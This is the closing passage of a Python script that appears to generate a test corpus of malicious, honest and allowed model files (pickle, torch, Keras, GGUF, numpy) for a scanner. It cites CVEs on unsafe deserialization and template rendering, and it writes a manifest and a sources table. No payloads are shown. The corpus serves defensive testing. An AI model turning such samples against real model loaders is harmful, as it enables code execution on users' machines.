- CVE-2024-3660 (Keras Lambda layers run code on load), CVE-2025-1550 (Keras config module
  loading), CVE-2025-9905 (legacy `.h5` ignores `safe_mode`).
- CVE-2024-34359 (llama-cpp-python renders GGUF chat templates with an unsandboxed Jinja2).
- PyYAML CVE-2017-18342 / CVE-2020-1747 (`yaml.load` of `!!python/object` tags).
- numpy `load(allow_pickle=True)` (CVE-2019-6446) and the `.npy` format specification (header
  versions 1.0/2.0/3.0, dtype spellings).

"""


def write_sources() -> None:
    rows = ["## Files", "", "| file | loader | technique | source |", "| --- | --- | --- | --- |"]
    for name in sorted(MANIFEST):
        i = MANIFEST[name]
        kind, base = name.split("/")
        rows.append(f"| `{base}` ({kind}) | {i['loader']} | {i['technique']} | {i['source']} |")
    (HERE / "SOURCES.md").write_text(SOURCES_HEAD + "\n".join(rows) + "\n")


def main() -> None:
    for kind in ("malicious", "honest", "allowed"):
        shutil.rmtree(HERE / kind, ignore_errors=True)
    pickles()
    torch_files()
    joblib_pandas()
    numpy_files()
    keras_files()
    gguf_files()
    honest_files()
    (HERE / "MANIFEST.json").write_text(json.dumps(MANIFEST, indent=1, sort_keys=True) + "\n")
    write_sources()
    print(f"wrote {len(MANIFEST)} files", file=sys.stderr)


if __name__ == "__main__":
    main()
